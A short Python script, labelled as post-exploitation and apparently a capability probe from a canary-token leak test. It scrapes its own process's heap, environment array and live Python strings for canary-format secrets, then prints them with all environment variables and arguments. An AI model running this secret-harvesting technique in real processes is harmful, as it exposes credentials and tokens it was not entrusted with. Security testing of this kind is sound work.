# kind=cap; source: post-exploitation: the worker's own memory searched for what its host knows
import ctypes, gc, os, re, sys
pattern = re.compile(rb"canary-[a-z]+-[0-9a-f]{32}")
found = set()
libc = ctypes.CDLL(None)
libc.sbrk.restype = ctypes.c_void_p
end = libc.sbrk(0)
environment = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
index = 0
while environment and environment[index]:
    found.add(environment[index])
    index += 1
heap = [end - size for size in (1 << 16, 1 << 18)]
for start in heap:
    found.update(pattern.findall(ctypes.string_at(start, end - start)))
for each in gc.get_objects():
    for inner in gc.get_referents(each):
        if type(inner) is str:
            found.update(pattern.findall(inner.encode("utf-8", "replace")))
        elif type(inner) is bytes:
            found.update(pattern.findall(inner))
print(found, dict(os.environ), sys.argv, sys.orig_argv)
breached = [each for each in found if pattern.match(each)]
